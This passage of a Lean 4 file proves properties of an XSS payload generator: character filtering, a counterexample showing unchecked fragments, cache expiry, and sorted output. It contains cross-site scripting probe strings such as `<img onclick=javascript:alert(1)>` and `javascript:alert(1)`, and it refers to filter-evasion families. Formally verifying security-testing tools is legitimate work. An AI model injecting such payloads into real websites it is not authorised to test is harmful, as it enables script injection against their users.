          if u == "u1" then Except.ok (shortCircuitAnalysis p u)
          else Except.error ())
        [("u1", ["x"]), ("u2", ["y"])] := by
  constructor
  · exact claim_C4_amended.1 _ ["a", "b"] "b" (by decide) (by rfl)
  · exact claim_C4_amended.2 _ [("u1", ["x"]), ("u2", ["y"])] "u1" ["x"]
      (by decide) (by decide)

/-- Claim C5: for every profile with `allows_angles = false`, no payload of
the full synthesized set (predefined families union dynamic generator, after
the final filters) contains a literal `'<'` character: the only families that
can fire are the encoded/entity-escaped predefined family and the
`javascript:` prototype evasions, none of which contains `'<'`. -/
theorem claim_C5 (a : ParamAnalysis) (p : String)
    (hangle : a.allows_angles = false) (hp : p ∈ generate_payloads a) :
    ¬('<' ∈ p.data) := by
  have hp' := generate_payloads_mem_families a p hp
  rw [List.mem_append] at hp'
  have hmem : p ∈ angle_blocked_payloads ∨ p ∈ proto_evasions := by
    rcases hp' with hp' | hp'
    · left
      unfold get_predefined_payloads at hp'
      rw [hangle] at hp'
      simpa using hp'
    · right
      unfold generate_dynamic_payloads at hp'
      rw [hangle] at hp'
      simp only [Bool.false_and, Bool.false_eq_true, if_false, List.nil_append] at hp'
      rw [mem_guard] at hp'
      exact (List.mem_filter.mp hp'.2).1
  have hall : ∀ q ∈ angle_blocked_payloads, ¬('<' ∈ q.data) := by decide
  have hall2 : ∀ q ∈ proto_evasions, ¬('<' ∈ q.data) := by decide
  rcases hmem with h | h
  · exact hall p h
  · exact hall2 p h

/-- Claim C5 (witness): the angle-blocked guarantee at the short-circuit
profile and the payload `javascript:alert(1)`. -/
theorem claim_C5_witness :
    (shortCircuitAnalysis "q" "http://u").allows_angles = false ∧
    "javascript:alert(1)" ∈ generate_payloads (shortCircuitAnalysis "q" "http://u") ∧
    ¬('<' ∈ ("javascript:alert(1)" : String).data) :=
  ⟨rfl, by decide,
    claim_C5 (shortCircuitAnalysis "q" "http://u") "javascript:alert(1)" rfl (by decide)⟩

/-- Claim C6 (counterexample): the profile `sampleEventProfile` (which allows
exactly the characters of `img`, `onclick`, `=`, `:`, `<`, `>`) makes the
dynamic generator emit `<img onclick=javascript:alert(1)>`, although the
character `'a'` of the emitted JS function-name fragment `alert` (and of
`javascript:`) is not in `allowed_chars` — so the generator does **not**
check every individual character of every literal fragment it uses. -/
theorem claim_C6_counterexample :
    "<img onclick=javascript:alert(1)>" ∈ generate_dynamic_payloads sampleEventProfile ∧
    "alert" ∈ js_functions ∧
    'a' ∈ ("alert" : String).data ∧
    'a' ∈ ("javascript:alert(1)" : String).data ∧
    ¬('a' ∈ sampleEventProfile.allowed_chars) := by
  refine ⟨by decide, by decide, by decide, by decide, by decide⟩

/-- Claim C6 (amended): the dynamic combinatorial generator emits a candidate
only after per-character checks of the *gated* fragments: every tag/function
payload comes from a base tag, tag mutation and JS function name each of
whose characters is individually allowed; every event-attribute payload
comes from a tag and event-handler variant each of whose characters is
individually allowed; and every DOM/prototype evasion passes a whole-string
allowed-characters check.  The remaining fixed skeleton fragments (e.g.
`javascript:alert(1)`, `alert(1)`, spaces, parentheses, digits, `data-`)
are not character-checked. -/
theorem claim_C6_amended (a : ParamAnalysis) (p : String)
    (hp : p ∈ generate_dynamic_payloads a) :
    (∃ tag mt func, tag ∈ base_tags ∧ mt ∈ tag_mutations tag ∧ func ∈ js_functions ∧
      allAllowed a tag = true ∧ allAllowed a mt = true ∧ allAllowed a func = true ∧
      (p ∈ commentPayloads mt func ∨ p ∈ nullPayloads tag func)) ∨
    (∃ tag event ev, tag ∈ event_tags ∧ event ∈ event_handlers ∧
      ev ∈ event_mutations event ∧ allAllowed a tag = true ∧ allAllowed a ev = true ∧
      p ∈ eventPayloads a tag ev) ∨
    ((p ∈ dom_evasions ∨ p ∈ proto_evasions) ∧ allAllowed a p = true) :=
  generate_dynamic_payloads_decomp a p hp

/-- Claim C6 (witness): the amended decomposition at `sampleEventProfile` and
the emitted payload `<img onclick=javascript:alert(1)>`. -/
theorem claim_C6_witness :
    (∃ tag mt func, tag ∈ base_tags ∧ mt ∈ tag_mutations tag ∧ func ∈ js_functions ∧
      allAllowed sampleEventProfile tag = true ∧ allAllowed sampleEventProfile mt = true ∧
      allAllowed sampleEventProfile func = true ∧
      ("<img onclick=javascript:alert(1)>" ∈ commentPayloads mt func ∨
        "<img onclick=javascript:alert(1)>" ∈ nullPayloads tag func)) ∨
    (∃ tag event ev, tag ∈ event_tags ∧ event ∈ event_handlers ∧
      ev ∈ event_mutations event ∧ allAllowed sampleEventProfile tag = true ∧
      allAllowed sampleEventProfile ev = true ∧
      "<img onclick=javascript:alert(1)>" ∈ eventPayloads sampleEventProfile tag ev) ∨
    (("<img onclick=javascript:alert(1)>" ∈ dom_evasions ∨
      "<img onclick=javascript:alert(1)>" ∈ proto_evasions) ∧
      allAllowed sampleEventProfile "<img onclick=javascript:alert(1)>" = true) :=
  claim_C6_amended sampleEventProfile "<img onclick=javascript:alert(1)>" (by decide)

/-- Claim C7: a `get` on an entry whose age exceeds the TTL returns absent
and purges the stale entry from the cache at that point, and a `set`
followed immediately by a `get` of the same key returns the value just
stored (for any non-negative TTL, in particular the default 300). -/
theorem claim_C7 (m : CacheManager) (now : Int) (k : String) (v b : Bool) (ts : Int)
    (hfind : m.cache.find? (fun e => e.1 == k) = some (k, b, ts))
    (hstale : m.ttl < now - ts) (httl : 0 ≤ m.ttl) :
    (m.get now k).1 = none ∧
    ((m.get now k).2.cache.find? (fun e => e.1 == k) = none) ∧
    ((m.set now k v).get now k).1 = some v := by
  refine ⟨?_, ?_, ?_⟩
  · unfold CacheManager.get
    rw [hfind]
    dsimp only
    rw [if_neg (by omega)]
  · unfold CacheManager.get
    rw [hfind]
    dsimp only
    rw [if_neg (by omega)]
    rw [List.find?_eq_none]
    intro x hx
    rw [List.mem_filter] at hx
    simpa using hx.2
  · unfold CacheManager.set CacheManager.get
    rw [List.find?_cons_of_pos _ (by simp)]
    dsimp only
    rw [if_pos (by omega)]

/-- Claim C7 (witness): the TTL behaviour at a concrete cache holding an
entry written at time 0 with the default TTL of 300, read at time 1000. -/
theorem claim_C7_witness :
    ((CacheManager.get ⟨[("k", true, 0)], 300⟩ 1000 "k").1 = none) ∧
    (((CacheManager.get ⟨[("k", true, 0)], 300⟩ 1000 "k").2.cache.find?
      (fun e => e.1 == "k")) = none) ∧
    ((CacheManager.set ⟨[("k", true, 0)], 300⟩ 1000 "k" false).get 1000 "k").1 =
      some false :=
  claim_C7 ⟨[("k", true, 0)], 300⟩ 1000 "k" false true 0 (by rfl) (by norm_num)
    (by norm_num)

/-- Claim C8: every profile produced by `analyze_parameter` has disjoint
`allowed_chars` and `blocked_chars`, and their union is exactly the set of
characters the full sweep probed (every character of every group when the
viability gate passed, nothing when it short-circuited). -/
theorem claim_C8 (groups : List (String × List Char)) (oracle : Char → Bool)
    (url param : String) (a : ParamAnalysis)
    (h : analyze_parameter groups oracle url param = some a) :
    (∀ c, ¬(c ∈ a.allowed_chars ∧ c ∈ a.blocked_chars)) ∧
    (∀ c, (c ∈ a.allowed_chars ∨ c ∈ a.blocked_chars) ↔
      c ∈ sweep_probed groups oracle) := by
  unfold analyze_parameter at h
  cases hlk : lookupGroup groups "basic" with
  | none =>
    rw [hlk] at h
    simp at h
  | some basic =>
    rw [hlk] at h
    dsimp only at h
    by_cases hgate : (!((basic.take 10).any oracle)) = true
    · rw [if_pos hgate] at h
      have ha := Option.some.inj h
      subst ha
      constructor
      · intro c hc
        simpa [shortCircuitAnalysis] using hc.1
      · intro c
        unfold sweep_probed
        rw [hlk]
        dsimp only
        rw [if_pos hgate]
        simp [shortCircuitAnalysis]
    · rw [if_neg hgate] at h
      have ha := Option.some.inj h
      subst ha
      dsimp only
      constructor
      · intro c hc
        obtain ⟨hca, hcb⟩ := hc
        rw [mem_filterMap_fst] at hca hcb
        obtain ⟨b1, hb1, hf1⟩ := hca
        obtain ⟨b2, hb2, hf2⟩ := hcb
        simp only at hf1 hf2
        have h1 := sweepResults_inv groups oracle (c, b1) hb1
        have h2 := sweepResults_inv groups oracle (c, b2) hb2
        simp only at h1 h2
        rw [Bool.not_eq_true'] at hf2
        subst hf1
        subst hf2
        rw [← h1] at h2
        exact absurd h2 (by decide)
      · intro c
        unfold sweep_probed
        rw [hlk]
        dsimp only
        rw [if_neg hgate]
        constructor
        · rintro (hc | hc)
          · rw [mem_filterMap_fst] at hc
            obtain ⟨b, hb, -⟩ := hc
            exact (sweepResults_keys groups oracle c).mp ⟨b, hb⟩
          · rw [mem_filterMap_fst] at hc
            obtain ⟨b, hb, -⟩ := hc
            exact (sweepResults_keys groups oracle c).mp ⟨b, hb⟩
        · intro hc
          obtain ⟨b, hb⟩ := (sweepResults_keys groups oracle c).mpr hc
          cases hbv : b with
          | true =>
            subst hbv
            exact Or.inl (mem_filterMap_fst.mpr ⟨true, hb, rfl⟩)
          | false =>
            subst hbv
            exact Or.inr (mem_filterMap_fst.mpr ⟨false, hb, rfl⟩)

set_option maxHeartbeats 4000000 in
/-- Claim C8 (witness): the invariant at a concrete analysis — group `basic`
is `['a', 'b']`, the server reflects exactly `'a'`, the produced profile has
`allowed_chars = ['a']`, `blocked_chars = ['b']`, and the union is exactly
the probed universe `['a', 'b']`. -/
theorem claim_C8_witness :
    (¬('a' ∈ (⟨"q", "http://u", ['a'], ['b'], some 9, false, false, false, false,
        true, true⟩ : ParamAnalysis).allowed_chars ∧
      'a' ∈ (⟨"q", "http://u", ['a'], ['b'], some 9, false, false, false, false,
        true, true⟩ : ParamAnalysis).blocked_chars)) ∧
    (('b' ∈ (⟨"q", "http://u", ['a'], ['b'], some 9, false, false, false, false,
        true, true⟩ : ParamAnalysis).allowed_chars ∨
      'b' ∈ (⟨"q", "http://u", ['a'], ['b'], some 9, false, false, false, false,
        true, true⟩ : ParamAnalysis).blocked_chars) ↔
      'b' ∈ sweep_probed [("basic", ['a', 'b'])] (fun c => c == 'a')) := by
  have h := claim_C8 [("basic", ['a', 'b'])] (fun c => c == 'a') "http://u" "q"
    ⟨"q", "http://u", ['a'], ['b'], some 9, false, false, false, false, true, true⟩
    (by decide)
  exact ⟨h.1 'a', h.2 'b'⟩

/-- Claim C9: for every run-accumulated set of unique payload strings (a
duplicate-free list all of whose members some profile's `generate_payloads`
can emit — which by `process_urls_results_payloads` covers everything the
URL loop can accumulate), the output file is the lexicographically sorted listing of
exactly those payloads, one per line, each exactly once, with no blank
lines: the stripping of embedded newlines/carriage returns and surrounding
whitespace is the identity on every payload the generators can produce, and
payloads left empty would be skipped. -/
theorem claim_C9 (ups : List String) (hnd : ups.Nodup)
    (hsrc : ∀ p ∈ ups, ∃ a, p ∈ generate_payloads a) :
    final_output ups = List.insertionSort pyStrOrder ups ∧
    List.Sorted pyStrOrder (final_output ups) ∧
    (final_output ups).Nodup ∧
    (∀ s, s ∈ final_output ups ↔ s ∈ ups) ∧
    ∀ s ∈ final_output ups, s ≠ "" := by
  have hclean : ∀ p ∈ ups, cleanChars p.data = true := by
    intro p hp
    obtain ⟨a, ha⟩ := hsrc p hp
    exact payload_universe_clean p (generate_payloads_mem_universe a p ha)
  have hrm := final_output_of_clean ups hclean
  have hperm : List.Perm (List.insertionSort pyStrOrder ups) ups :=
    List.perm_insertionSort _ _
  refine ⟨hrm, ?_, ?_, ?_, ?_⟩
  · rw [hrm]
    exact @List.sorted_insertionSort String pyStrOrder _
      ⟨fun s t => charListLe_total s.data t.data⟩
      ⟨fun x y z hxy hyz => charListLe_trans x.data y.data z.data hxy hyz⟩ ups
  · rw [hrm]
    exact hperm.nodup_iff.mpr hnd
  · intro s
    rw [hrm]
    exact hperm.mem_iff
  · intro s hs
    rw [hrm] at hs
    exact string_ne_empty_of_clean (hclean s (hperm.mem_iff.mp hs))

/-- Claim C9 (witness): the output pipeline on the six angle-blocked
payloads (each of which `generate_payloads` emits for the short-circuit
profile): the file content is their sorted listing, duplicate-free. -/
theorem claim_C9_witness :
    final_output angle_blocked_payloads =
      List.insertionSort pyStrOrder angle_blocked_payloads ∧
    List.Sorted pyStrOrder (final_output angle_blocked_payloads) ∧
    (final_output angle_blocked_payloads).Nodup := by
  have h := claim_C9 angle_blocked_payloads (by decide)
    (fun p hp =>
      ⟨shortCircuitAnalysis "q" "http://u", by
        have hgen : generate_payloads (shortCircuitAnalysis "q" "http://u") =
            angle_blocked_payloads := rfl
        rw [hgen]
        exact hp⟩)
  exact ⟨h.1, h.2.1, h.2.2.1⟩

set_option maxHeartbeats 2000000 in
/-- Claim C10: the short-circuit profile (empty allowed/blocked sets, all
booleans false, no length bound) still receives payloads:
`generate_payloads` returns exactly the six encoded/entity-escaped strings
of the angle-blocked predefined family, a non-empty set. -/
theorem claim_C10 (param url : String) :
    generate_payloads (shortCircuitAnalysis param url) = angle_blocked_payloads ∧
    angle_blocked_payloads.length = 6 ∧
    generate_payloads (shortCircuitAnalysis param url) ≠ [] := by
  have h1 : generate_payloads (shortCircuitAnalysis param url) = angle_blocked_payloads := rfl
  refine ⟨h1, rfl, ?_⟩
  rw [h1]
  decide

end Xssdynagen
